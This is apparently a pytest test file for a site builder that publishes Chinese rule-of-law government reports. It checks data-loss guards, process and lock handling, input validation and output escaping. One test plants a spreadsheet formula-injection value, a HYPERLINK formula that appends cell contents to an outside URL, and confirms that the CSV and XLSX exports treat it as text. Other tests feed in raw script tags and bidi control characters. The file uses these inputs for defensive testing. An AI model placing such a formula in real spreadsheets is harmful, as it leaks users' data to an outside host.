"""Nothing lost, nothing hung, no traceback (issue 10): each case as a user or an attacker would hit
it, through the command line or HTTP, on a copy of a project."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
import xml.dom.minidom
from pathlib import Path

import pytest

from tests.conftest import Project, copy_project, first_fast, report_text, snapshot

SHUANGJIANG = "content/chongqing/tongnan/shuangjiang/2023.md"


def cli(project: Project, *args: str, timeout: float = 600) -> subprocess.CompletedProcess[str]:
    """The installed command as a user runs it, in the project folder."""
    return subprocess.run([sys.executable, "-m", "site_builder", *args], cwd=project.root, capture_output=True, text=True,
                          timeout=timeout)


def assert_no_traceback(result: subprocess.CompletedProcess[str]) -> None:
    assert "Traceback" not in result.stderr + result.stdout, result.stderr


# 1. Data loss ------------------------------------------------------------------------------------

@pytest.mark.parametrize("output", [".", "content", "..", "content/chongqing", "theme-overrides", "notes"])
def test_an_output_folder_that_is_not_the_builders_is_refused_before_anything_is_touched(project: Project, output: str) -> None:
    (project.root / ".git").mkdir()
    (project.root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (project.root / "theme-overrides" / "templates").mkdir(parents=True)
    config = project.root / "config.yaml"
    config.write_text(config.read_text().replace('custom_dir: ""', "custom_dir: theme-overrides"))
    (project.root / "notes").mkdir()
    (project.root / "notes" / "plan.txt").write_text("keep me")
    before = {p: p.read_bytes() for p in project.root.parent.rglob("*") if p.is_file()}
    result = cli(project, "build", "--output", output)
    assert result.returncode == 1, result.stderr
    assert "Refusing to write the site here" in result.stderr and "fix:" in result.stderr
    assert_no_traceback(result)
    after = {p: p.read_bytes() for p in project.root.parent.rglob("*") if p.is_file()}
    assert after == before  # not a file added, changed or removed, lock files included


def test_output_dir_in_config_is_guarded_too_and_a_built_folder_is_replaced(project: Project) -> None:
    config = project.root / "config.yaml"
    config.write_text(config.read_text().replace("output_dir: site", "output_dir: content"))
    assert cli(project, "build").returncode == 1
    assert (project.root / SHUANGJIANG).is_file()
    config.write_text(config.read_text().replace("output_dir: content", "output_dir: public"))
    assert cli(project, "build").returncode == 0
    assert (project.root / "public" / ".site-builder-output").is_file()
    assert cli(project, "build").returncode == 0  # its own folder: replaced


def test_a_site_built_before_the_marker_existed_is_still_replaced(project: Project) -> None:
    assert cli(project, "build").returncode == 0
    (project.site / ".site-builder-output").unlink()  # as site-builder 0.1 left it: no marker, its home page names it
    assert 'name="generator" content="site_builder"' in (project.site / "index.html").read_text(encoding="utf-8")
    assert cli(project, "build").returncode == 0
    assert (project.site / ".site-builder-output").is_file()


# 2. Silent blanking ------------------------------------------------------------------------------

@pytest.mark.parametrize("opener", first_fast(["<script>", "<style>", "<!--", "<title>", "<xmp>", "<textarea>", "<STYLE type=x>"]))
def test_a_stray_raw_text_tag_never_hides_the_text_after_it(project: Project, opener: str) -> None:
    text = report_text().replace("## 二、存在的不足和原因", f"{opener}\n\n## 二、存在的不足和原因")
    project.write(SHUANGJIANG, text)
    built = cli(project, "build")
    assert built.returncode == 0, built.stderr
    page = project.page("chongqing/tongnan/shuangjiang/2023/")
    body = page.select_one(".report-body").get_text()
    assert "法治观念有待加强" in body and "继续推进法治政府建设" in body  # everything after it is there
    assert opener.split()[0].lstrip("<").rstrip(">").lower() in body.lower()  # and the tag shows as text
    checked = cli(project, "check")
    line = text.split("\n").index(opener) + 1
    assert f"{SHUANGJIANG}:{line}: warning [raw-html]" in checked.stdout


def test_a_docx_table_cell_holding_a_style_tag_imports_as_text(project: Project) -> None:
    docx = pytest.importorskip("docx")
    document = docx.Document()
    for line in ("关于2023年法治政府建设情况的报告", "区委、区政府：", "2023年，双江镇坚持依法行政，全面推进法治政府建设，现将有关情况报告如下。",
                 "一、主要举措和成效", "全镇开展法治宣传活动，具体情况见下表。"):
        document.add_paragraph(line)
    table = document.add_table(rows=2, cols=2)
    table.cell(0, 0).text, table.cell(0, 1).text = "项目", "说明"
    table.cell(1, 0).text, table.cell(1, 1).text = "<style>", "样式标签"
    document.add_paragraph("此后的段落必须出现在页面上。")
    source = project.root / "report.docx"
    document.save(str(source))
    (project.root / SHUANGJIANG).unlink()
    imported = cli(project, "import", str(source), "--province", "重庆市", "--county", "潼南区", "--town", "双江镇",
                   "--year", "2023", "--unit", "重庆市潼南区双江镇人民政府")
    assert imported.returncode == 0, imported.stderr + imported.stdout
    assert cli(project, "build").returncode == 0
    body = project.page("chongqing/tongnan/shuangjiang/2023/").select_one(".report-body").get_text()
    assert "<style>" in body and "此后的段落必须出现在页面上" in body


def test_a_raw_heading_cannot_take_the_skip_link_target(project: Project) -> None:
    project.write(SHUANGJIANG, report_text() + '\n<h2 id="main">原始标题</h2>\n\n## Main\n')
    assert cli(project, "build").returncode == 0
    page = project.page("chongqing/tongnan/shuangjiang/2023/")
    assert len(page.select('[id="main"]')) == 1 and page.select_one("#main").name == "main"


# 3. Hang -----------------------------------------------------------------------------------------

def _children_of(pid: int) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == pid and fields[0] != "Z":
                found.append(int(entry.name))
    return found


@pytest.fixture(scope="module")
def large_project(tmp_path_factory: pytest.TempPathFactory) -> Project:
    from corpus import generate

    project = copy_project(tmp_path_factory.mktemp("large") / "proj", with_content=False)
    generate(250, project.root)  # past PARALLEL_THRESHOLD: pages and search are written by forked workers
    return project


def _live(pids: list[int]) -> list[int]:
    """Those of pids still running (a zombie waits only for its parent to reap it)."""
    def state(pid: int) -> str:
        try:
            return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except (FileNotFoundError, ProcessLookupError, IndexError):
            return "gone"
    return [pid for pid in pids if state(pid) not in ("gone", "Z")]


@pytest.mark.parametrize("stop", [signal.SIGTERM, signal.SIGINT])
def test_stopping_a_build_stops_its_workers_and_the_next_build_runs(large_project: Project, stop: signal.Signals) -> None:
    first = cli(large_project, "build", "--no-search")
    assert first.returncode == 0, first.stderr
    before = snapshot(large_project.site)
    process = subprocess.Popen([sys.executable, "-m", "site_builder", "build"], cwd=large_project.root,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 300
    workers: list[int] = []
    while not workers and time.monotonic() < deadline:  # wait until workers run
        workers = _children_of(process.pid)  # kept as found: a short-lived pool may be gone by a second look
        time.sleep(0.02)
    assert workers, "the build never started workers"
    process.send_signal(stop)
    _, err = process.communicate(timeout=300)
    assert process.returncode in (130, 143) and "previous site is unchanged" in err and "Traceback" not in err
    deadline = time.monotonic() + 120  # a hang detector: workers exit at once, a loaded host may take a moment
    while _live(workers) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not _live(workers)
    assert snapshot(large_project.site) == before
    after = cli(large_project, "build", "--no-search")  # would hang for ever on a held lock
    assert after.returncode == 0, after.stderr


def test_a_lock_whose_holder_is_gone_is_taken_over(project: Project) -> None:
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    from site_builder.safepaths import lock_path, prepare_lock

    lock = lock_path(project.root, project.site)
    prepare_lock(lock)
    # An orphan (a worker of a killed build, say) keeps the lock; the pid in it is the dead build's.
    holder = subprocess.Popen([sys.executable, "-c", f"""
import fcntl, os, time
fd = os.open({str(lock)!r}, os.O_CREAT | os.O_RDWR)
fcntl.flock(fd, fcntl.LOCK_EX)
os.write(fd, b"{dead.stdout.strip()}\\n")
print("held", flush=True)
time.sleep(3600)  # killed by the test
"""], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "held"
        result = cli(project, "build")
        assert result.returncode == 0, result.stderr
        assert "has ended without releasing it; taking over" in result.stderr
    finally:
        holder.kill()
        holder.wait()


# 4. Tracebacks -----------------------------------------------------------------------------------

@pytest.mark.parametrize("value", first_fast(["1.0e999", ".nan", "-.inf", "1e300"]))
def test_a_figure_that_is_not_a_number_is_an_error_with_its_line(project: Project, value: str) -> None:
    text = report_text(extra=f"metrics:\n  矛盾纠纷化解: {value}\n")
    project.write(SHUANGJIANG, text)
    line = text.split("\n").index("metrics:") + 1
    for command in (["build"], ["check"], ["stats"]):
        result = cli(project, *command)
        assert result.returncode in (1, 2), (command, result.stderr)
        assert f"{SHUANGJIANG}:{line}: error [metrics]" in result.stdout + result.stderr
        assert_no_traceback(result)


def test_a_400_digit_number_in_the_text_is_not_a_figure(project: Project) -> None:
    project.write(SHUANGJIANG, report_text().replace("全年开展法治培训3次", "全年受理矛盾纠纷" + "9" * 400 + "件，培训3次"))
    for command in (["build"], ["check"], ["stats", "--format", "json"]):
        result = cli(project, *command)
        assert result.returncode in (0, 1), (command, result.stderr)
        assert_no_traceback(result)


def test_links_loops_folders_and_pipes_named_md_are_reported_not_crashed_on(project: Project) -> None:
    content = project.content
    (content / "dangling.md").symlink_to("nowhere.md")
    (content / "loop.md").symlink_to("loop.md")
    (content / "folder.md").mkdir()
    (content / "up").symlink_to("..")  # a link back up the tree is read once, not for ever
    os.mkfifo(content / "pipe.md")
    result = cli(project, "build")  # a FIFO once hung the reader
    assert result.returncode == 1
    assert "content/dangling.md: error: This is a link to a file that does not exist" in result.stderr
    assert "content/loop.md: error: This is a link that loops back to itself" in result.stderr
    assert "content/pipe.md: error: This is not an ordinary file" in result.stderr
    assert "folder.md" not in result.stderr
    assert_no_traceback(result)
    for name in ("dangling.md", "loop.md", "pipe.md", "up"):
        (content / name).unlink()
    assert cli(project, "build").returncode == 0  # the empty folder.md is simply a folder


def test_a_full_disk_while_the_search_index_is_written_is_a_clear_error(project: Project, capsys: pytest.CaptureFixture[str],
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    import errno

    from site_builder.search import shards

    assert project.run(capsys, "build").code == 0
    before = snapshot(project.site)

    def full(*args: object, **kwargs: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device", "spill")

    monkeypatch.setattr(shards.Spill, "add", full)
    shutil.rmtree(project.root / ".site-cache")  # so the whole index is written again, through its spill files
    result = project.run(capsys, "build")
    assert result.code == 1 and "The disk is full" in result.err and "Traceback" not in result.err
    assert snapshot(project.site) == before


def test_two_searches_at_once_on_a_fresh_index_both_answer(project: Project) -> None:
    processes = [subprocess.Popen([sys.executable, "-m", "site_builder", "search", "法律顾问"], cwd=project.root,
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(3)]
    answers = set()
    for process in processes:
        out, err = process.communicate(timeout=600)
        assert process.returncode == 0 and "LockError" not in err and "Traceback" not in err, err
        answers.add(out.split("\n")[0])
    assert len(answers) == 1 and answers.pop().startswith("5 report(s) contain")  # all five seeds mention 法律顾问


def test_search_limit_must_be_a_positive_number(project: Project) -> None:
    for bad in ("-1", "0", "²", "abc"):
        result = cli(project, "search", "法律顾问", "--limit", bad)
        assert result.returncode == 2 and "whole number from 1 to 1000" in result.stderr
        assert_no_traceback(result)
    result = cli(project, "search", "法律顾问", "--year", "二〇二三")
    assert result.returncode == 2 and "four digits" in result.stderr


@pytest.fixture
def search_service(project: Project):  # type: ignore[no-untyped-def]
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    process = subprocess.Popen([sys.executable, "-m", "site_builder", "serve-search", "--port", str(port)],
                               cwd=project.root, stdout=subprocess.PIPE, stderr=subprocess.PIPE)

    def get(params: dict[str, str]) -> tuple[int, dict[str, object], float]:
        url = f"http://127.0.0.1:{port}/api/search?" + urllib.parse.urlencode(params)
        for _ in range(3000):  # the service indexes first: generous on a loaded CI host
            started = time.perf_counter()
            try:
                with urllib.request.urlopen(url, timeout=60) as response:
                    return response.status, json.loads(response.read()), time.perf_counter() - started
            except urllib.error.HTTPError as exc:
                return exc.code, json.loads(exc.read()), time.perf_counter() - started
            except OSError:
                time.sleep(0.1)
        raise AssertionError("serve-search did not answer")

    yield get
    process.terminate()
    process.wait(timeout=120)


def test_serve_search_refuses_bad_parameters_with_400_and_a_reason(search_service) -> None:  # type: ignore[no-untyped-def]
    for params in ({"q": "法律顾问", "limit": "²"}, {"q": "法律顾问", "year": "²"}, {"q": "法律顾问", "year": "abc"},
                   {"q": "法律顾问", "limit": "-1"}, {"q": "法律顾问", "limit": "100000"}):
        status, body, _ = search_service(params)
        assert status == 400 and "not understood" in str(body["error"]), (params, body)
    status, body, _ = search_service({"q": "法律顾问", "year": "2023"})
    assert status == 200 and body["total"] == 2


def test_a_query_past_the_bounds_is_refused_quickly(search_service) -> None:  # type: ignore[no-untyped-def]
    many = " ".join(f'"{w}"' for w in ["法治政府建设", "依法行政", "矛盾纠纷", "法律顾问", "行政复议", "普法宣传", "信访", "调解",
                                        "执法", "培训", "决策", "公开", "监督", "考核", "学法", "用法", "守法", "述法", "法治", "建设"])
    status, body, seconds = search_service({"q": many})
    assert status == 400 and "at most" in str(body["error"]) and seconds < 60  # refused before searching (it once ran for minutes)
    status, body, _ = search_service({"q": "法" * 201})
    assert status == 400 and "characters" in str(body["error"])


def test_the_browser_index_carries_the_same_bounds(project: Project) -> None:
    from site_builder.search.limits import MAX_QUERY_CHARS, MAX_WORDS

    assert cli(project, "build").returncode == 0
    form = project.page("search/").select_one("#search-form")
    assert json.loads(form["data-search"])["limits"] == {"words": MAX_WORDS, "chars": MAX_QUERY_CHARS}
    script = (project.site / "assets" / "search.js").read_text(encoding="utf-8")
    assert "setup.limits" in script  # search.js reads them (the browser test below runs it)


# 5. Formula injection ----------------------------------------------------------------------------

def test_titles_that_look_like_formulas_are_text_in_the_downloads(project: Project) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    title = '=HYPERLINK("http://example.com/?"&A1,"点击")'
    project.write(SHUANGJIANG, report_text().replace("title: 关于2023年法治政府建设情况的报告", f"title: '{title}'"))
    assert cli(project, "build").returncode == 0
    workbook = openpyxl.load_workbook(project.site / "data" / "stats.xlsx")
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row if c.value == title]
    assert cells and all(c.data_type == "s" for c in cells)  # a string cell showing the title as written
    text = next((project.site / "data").glob("*-公开时效.csv")).read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert any(cell == "'" + title for row in rows for cell in row)
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


# 6. Invalid output -------------------------------------------------------------------------------

@pytest.mark.parametrize("char", first_fast(["\x00", "\x07", "\x1b", "\x7f", "\u202e", "\u2066"]))
def test_control_characters_in_front_matter_are_refused_with_the_line(project: Project, char: str) -> None:
    text = report_text().replace("unit: 潼南区双江镇人民政府", f"unit: 潼南区双江镇{char}人民政府")
    project.write(SHUANGJIANG, text)
    result = cli(project, "build")
    line = next(number for number, row in enumerate(text.split("\n"), 1) if row.startswith("unit:"))
    assert result.returncode == 1 and f"{SHUANGJIANG}:{line}: error [unit]" in result.stderr
    assert f"U+{ord(char):04X}" in result.stderr


def test_control_characters_in_the_body_never_break_the_feed(project: Project) -> None:
    project.write(SHUANGJIANG, report_text().replace("坚持依法行政", "坚持\x0b依法\x01行政\u202e"))
    assert cli(project, "build").returncode == 0
    xml.dom.minidom.parse(str(project.site / "feed.xml"))  # well-formed
    assert "坚持依法行政" in project.page("chongqing/tongnan/shuangjiang/2023/").get_text()


# 7. Duplicates -----------------------------------------------------------------------------------

@pytest.mark.parametrize(("field", "spelling"), first_fast([("town", '"双\\u200b江镇"'), ("town", '"\\ufeff双江镇"'), ("town", "雙江鎮"),
                                                            ("province", "重庆"), ("town", "双江镇　")]))
def test_one_place_spelt_two_ways_is_one_place(project: Project, field: str, spelling: str) -> None:
    original = (project.root / SHUANGJIANG).read_text(encoding="utf-8")
    import re

    project.write("content/copy.md", re.sub(rf"^{field}: .*$", lambda _: f"{field}: {spelling}", original, count=1, flags=re.M))
    result = cli(project, "build")
    assert result.returncode == 1
    assert "重庆市潼南区双江镇 already has a 2023 report" in result.stderr


def test_adding_a_name_never_moves_a_published_url(project: Project) -> None:
    assert cli(project, "build").returncode == 0
    before = sorted(p.relative_to(project.site).as_posix() for p in project.site.rglob("index.html"))
    project.write("content/x/2024.md", report_text(town="双江乡", year=2024))  # collides with 双江镇 (2023)
    project.write("content/y/2024.md", report_text(town="新镇", province="重庆", year=2024))  # short province name
    result = cli(project, "build")
    assert result.returncode == 0, result.stderr
    after = {p.relative_to(project.site).as_posix() for p in project.site.rglob("index.html")}
    assert set(before) <= after
    assert "chongqing/tongnan/shuangjiangxiang/2024/index.html" in after


# 8. Empty or placeholder content -----------------------------------------------------------------

def test_an_empty_content_folder_never_replaces_the_published_site(project: Project) -> None:
    assert cli(project, "build").returncode == 0
    before = snapshot(project.site)
    for report in project.content.rglob("*.md"):
        report.unlink()
    result = cli(project, "build")
    assert result.returncode == 1 and "There are no reports in content/" in result.stderr
    assert snapshot(project.site) == before


def test_a_new_sites_first_build_may_be_empty_but_publishing_one_is_refused(tmp_path: Path) -> None:
    subprocess.run([sys.executable, "-m", "site_builder", "init", "fresh"], cwd=tmp_path, check=True, capture_output=True)
    fresh = Project(tmp_path / "fresh")
    strict = cli(fresh, "build", "--strict")  # what the Pages workflow runs: an empty site is never deployed
    assert strict.returncode == 1 and "There are no reports in content/" in strict.stderr
    assert not fresh.site.exists()
    first = cli(fresh, "build")  # a first local preview: built, with a warning
    assert first.returncode == 0 and "no reports in content/ yet" in first.stderr
    assert (fresh.site / "index.html").is_file() and (fresh.site / "search" / "meta.json").is_file()
    assert "no reports in content/ yet" in cli(fresh, "check").stdout


@pytest.mark.parametrize("args", [["--year", "-5"], ["--year", "99999"], ["--year", "2023", "--town", ""],
                                  ["--year", "2023", "--town", "\u200b"], ["--year", "2023", "--county", ""]])
def test_new_checks_its_arguments_with_the_schema(project: Project, args: list[str]) -> None:
    base = {"--province": "重庆市", "--county": "潼南区", "--town": "甲镇"}
    for key, value in zip(args[::2], args[1::2], strict=True):
        base[key] = value
    result = cli(project, "new", *[x for pair in base.items() for x in pair])
    assert result.returncode in (1, 2), result.stdout
    assert_no_traceback(result)
    assert not list(project.content.rglob("jiazhen/*.md"))


# 10. check gaps ----------------------------------------------------------------------------------

@pytest.mark.parametrize("markdown", ["![](HTTPS://cdn.example.com/a.png)", "![a][r]\n\n[r]: https://cdn.example.com/b.png",
                                      "![a](//cdn.example.com/c.png)", '<IMG SRC="https://cdn.example.com/d.png">'])
def test_check_finds_images_from_other_sites_in_any_spelling(project: Project, markdown: str) -> None:
    project.write(SHUANGJIANG, report_text() + "\n" + markdown + "\n")
    result = cli(project, "check")
    assert result.returncode == 2 and "error [external-resource]" in result.stdout, result.stdout


# Found by benchmarks/fuzz.py -----------------------------------------------------------------------

def test_an_output_name_too_long_for_the_file_system_is_a_message(project: Project) -> None:
    result = cli(project, "build", "--output", "a" * 300)
    assert result.returncode == 1 and "name is too long" in result.stderr
    assert_no_traceback(result)


def test_import_year_must_be_plain_digits(project: Project) -> None:
    source = project.root / "raw.txt"
    source.write_text("关于2023年法治政府建设情况的报告\n\n2023年，双江镇坚持依法行政。\n", encoding="utf-8")
    result = cli(project, "import", str(source), "--year", "²", "--dry-run")
    assert result.returncode == 2 and "four digits" in result.stderr
    assert_no_traceback(result)


def test_a_config_file_that_does_not_exist_is_named_not_ignored(project: Project) -> None:
    result = cli(project, "build", "--config", "confg.yaml")
    assert result.returncode == 2 and "confg.yaml: there is no such config file" in result.stderr


@pytest.mark.parametrize("command", ["serve", "serve-search"])
def test_a_port_in_use_is_a_message(project: Project, command: str) -> None:
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        result = cli(project, command, "--port", str(port))
    assert result.returncode == 1 and f"port {port} on 127.0.0.1 is already in use" in result.stderr
    assert_no_traceback(result)


def test_every_link_inside_the_cache_is_named_in_order(tmp_path: Path) -> None:
    """A build first looks for a link in the cache without sorting its 100,000 files; when there
    is one, every link is named, in the order of the full walk."""
    from site_builder.safepaths import cache_links

    cache = tmp_path / ".site-cache"
    (cache / "documents" / "abc").mkdir(parents=True)
    (cache / "documents" / "abc" / "1.bin").write_bytes(b"x")
    (cache / "reports").mkdir()
    assert cache_links(tmp_path) == []
    (cache / "reports" / "z.bin").symlink_to(tmp_path)
    (cache / "documents" / "abc" / "a.bin").symlink_to(tmp_path / "elsewhere")
    named = [problem.file for problem in cache_links(tmp_path)]
    assert len(named) == 2 and named[0].endswith("z.bin") and named[1].endswith("a.bin")
